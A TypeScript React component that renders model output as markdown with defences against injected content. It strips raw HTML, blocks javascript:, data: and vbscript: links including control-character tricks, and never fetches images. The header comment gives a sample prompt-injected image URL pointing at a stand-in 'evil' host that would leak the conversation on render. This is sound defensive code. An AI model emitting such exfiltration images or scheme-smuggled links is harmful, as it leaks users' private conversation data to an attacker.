import ReactMarkdown, { type Components } from "react-markdown";
import remarkGfm from "remark-gfm";

// Model output and user-supplied text rendered as markdown, safely:
// - raw HTML in the source is shown as the literal text the model wrote, never parsed as markup;
// - only http(s), mailto and same-page links survive; `javascript:`, `data:`, `vbscript:` and any
//   other scheme leave plain text behind;
// - images are never fetched: a prompt-injected `![](https://evil/?q=secret)` would otherwise leak
//   the conversation the moment it renders. They become ordinary links the reader may follow.

const SAFE_SCHEMES = new Set(["http:", "https:", "mailto:"]);

/** The URL if it is one we let a reader follow, else null. Relative `#x` and `/x` links are kept. */
export function safeHref(url: string | null | undefined): string | null {
  if (!url) return null;
  const trimmed = url.trim();
  // Browsers ignore tabs/newlines and leading control characters inside a scheme ("java\tscript:").
  // eslint-disable-next-line no-control-regex
  const compact = trimmed.replace(/[\u0000-\u0020]/g, "");
  if (compact.startsWith("#") || (compact.startsWith("/") && !compact.startsWith("//"))) return trimmed;
  let parsed: URL;
  try {
    parsed = new URL(compact);
  } catch {
    return null;
  }
  return SAFE_SCHEMES.has(parsed.protocol) ? trimmed : null;
}

interface MdNode {
  type: string;
  value?: string;
  children?: MdNode[];
}

/** A remark plugin: raw HTML (block or inline) becomes text, so it is displayed and never parsed. */
function htmlAsText() {
  const walk = (node: MdNode) => {
    if (node.type === "html") node.type = "text";
    node.children?.forEach(walk);
  };
  return (tree: MdNode) => walk(tree);
}

const components: Components = {
  a: ({ href, children }) => {
    const safe = safeHref(href);
    if (!safe) return <span className="md-unsafe-link">{children}</span>;
    return (
      <a href={safe} target="_blank" rel="noopener noreferrer nofollow">
        {children}
      </a>
    );
  },
  img: ({ src, alt }) => {
    const safe = typeof src === "string" ? safeHref(src) : null;
    const label = alt || (typeof src === "string" ? src : "");
    if (!safe) return <span className="md-image">{label}</span>;
    return (
      <a className="md-image" href={safe} target="_blank" rel="noopener noreferrer nofollow">
        {label || safe}
      </a>
    );
  },
};

/** Renders `text` as GitHub-flavoured markdown with no raw HTML, no unsafe links, no remote images. */
export function Markdown({ text, className }: { text: string; className?: string }) {
  return (
    <div className={className ? `markdown ${className}` : "markdown"}>
      <ReactMarkdown
        remarkPlugins={[remarkGfm, htmlAsText]}
        urlTransform={(url) => url}
        components={components}
      >
        {text}
      </ReactMarkdown>
    </div>
  );
}
